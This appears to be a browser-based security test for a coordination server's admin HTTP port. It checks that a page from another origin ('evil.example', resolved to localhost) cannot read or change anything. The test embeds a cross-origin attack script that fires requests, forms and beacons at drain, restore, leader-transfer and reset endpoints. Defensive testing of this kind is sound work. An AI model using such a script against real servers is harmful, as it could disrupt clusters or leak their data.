import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { withPage } from './browser/open-page.ts'
import { Client } from './harness/client.ts'
import { freePort } from './harness/ports.ts'
import { describeWith } from './harness/requirements.ts'
import { scratch, Server } from './harness/servers.ts'

/** A name that is no name of the server, and has its address: as one that was rebound. */
const STRANGER = 'evil.example'
/** The client of the test sends no pings. */
const SESSION_MS = 600_000

/**
 * Tries everything that a page can send to another origin, and reports the texts that it could read. `no-cors` requests, images, forms
 * and frames need no permission of the other origin.
 */
const attack = `
const get = ['/commands/configuration', '/commands/stat_reset', '/commands/srst', '/commands/connection_stat_reset', '/commands/crst',
  '/commands/set_trace_mask?traceMask=1', '/commands/snapshot', '/api/v1/self', '/api/v1/sessions', '/commands/dump']
const post = ['/api/v1/drain', '/api/v1/leader/transfer', '/commands/shed_connections', '/commands/restore', '/api/v1/backups']
const read = []
const settled = []
const attempt = (work) => settled.push(work().then((text) => { if (text) read.push(text) }).catch(() => {}))
const loaded = (element, set) => new Promise((done) => {
  element.onload = element.onerror = () => done('')
  set(element)
  document.body.append(element)
  setTimeout(done, 5000)
})
for (const origin of origins) {
  for (const path of get) {
    const url = origin + path
    attempt(async () => (await fetch(url)).text())
    attempt(async () => (await fetch(url, { mode: 'no-cors' })).text())
    attempt(() => loaded(new Image(), (image) => (image.src = url)))
    attempt(() => loaded(document.createElement('script'), (script) => (script.src = url)))
    attempt(() => loaded(document.createElement('iframe'), (frame) => (frame.src = url)))
  }
  for (const path of post) {
    const url = origin + path
    const body = '{"percentage": 100, "seconds": 0}'
    attempt(async () => (await fetch(url, { method: 'POST', mode: 'no-cors', body })).text())
    attempt(async () => (await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body })).text())
    attempt(async () => void navigator.sendBeacon(url, body))
    attempt(() => loaded(document.createElement('iframe'), (frame) => {
      frame.name = url
      const form = document.createElement('form')
      Object.assign(form, { method: 'POST', action: url, target: url, enctype: 'text/plain' })
      document.body.append(form)
      setTimeout(() => form.submit(), 0)
    }))
  }
  attempt(async () => (await fetch(origin + '/api/v1/drain', { method: 'DELETE' })).text())
}
await Promise.all(settled)
await fetch('/end', { method: 'POST', body: JSON.stringify(read) })`

describeWith(['chromium'], 'a web page of another origin', () => {
  it('reads nothing of the HTTP port, and changes nothing, though this machine may do everything', async () => {
    const port = await freePort()
    const auditFile = join(scratch('pages'), 'audit.log')
    await using server = await Server.start({
      kind: 'zabra',
      config: {
        'admin.enableServer': 'true',
        'admin.serverPort': port,
        'admin.role.admin': 'ip:127.0.0.1',
        'admin.rateLimiterIntervalInMS': 0,
        'admin.restore.enabled': 'true',
        'audit.enable': 'true',
        'audit.events': 'admin',
        'audit.file': auditFile,
        maxSessionTimeout: SESSION_MS,
      },
    })
    const http = async (path: string) =>
      (await (await fetch(`http://127.0.0.1:${port}${path}`)).json()) as Record<string, unknown>
    const client = await Client.connect(server.port, { timeoutMs: SESSION_MS })
    for (let node = 0; node < 100; node++) await client.create(`/n${node}`)
    const before = await http('/commands/last_snapshot')
    let ended = (read: unknown): void => void read
    const end = new Promise<unknown>((done) => (ended = done))
    const origins = JSON.stringify([`http://127.0.0.1:${port}`, `http://${STRANGER}:${port}`])
    const web = createServer((request, response) => {
      if (request.method === 'POST') {
        let body = ''
        request.on('data', (chunk: Buffer) => (body += chunk.toString()))
        request.on('end', () => ended(JSON.parse(body)))
        response.end()
        return
      }
      const page = `<!doctype html><body></body><script type="module">const origins = ${origins}\n${attack}</script>`
      response.writeHead(200, { 'content-type': 'text/html' }).end(page)
    })
    web.listen(0, '127.0.0.1')
    await once(web, 'listening')
    const url = `http://${STRANGER}:${(web.address() as AddressInfo).port}/`
    const rules = `--host-resolver-rules=MAP ${STRANGER} 127.0.0.1`
    const read = await withPage(url, [rules], end).finally(() => {
      web.closeAllConnections()
      web.close()
    })
    expect(read).toEqual([])
    const { server_stats: stats } = (await http('/commands/server_stats')) as { server_stats: object }
    expect(stats).toMatchObject({ packets_received: expect.any(Number) as number })
    expect((stats as { packets_received: number }).packets_received).toBeGreaterThan(100)
    expect(await http('/commands/get_trace_mask')).toMatchObject({ tracemask: 306 })
    expect(await http('/commands/last_snapshot')).toEqual(before)
    expect(await http('/api/v1/self')).toMatchObject({
      draining: false,
      znodes: expect.any(Number) as number,
    })
    // It does not connect again.
    await client.set('/n0', 'still here')
    const refused = readFileSync(auditFile, 'utf8')
    expect(refused).toContain('operation=POST /api/v1/drain\tresult=failure')
    expect(refused).toContain('operation=GET /commands/stat_reset\tresult=failure')
    expect(refused).not.toContain('result=success')
  }, 300_000)
})
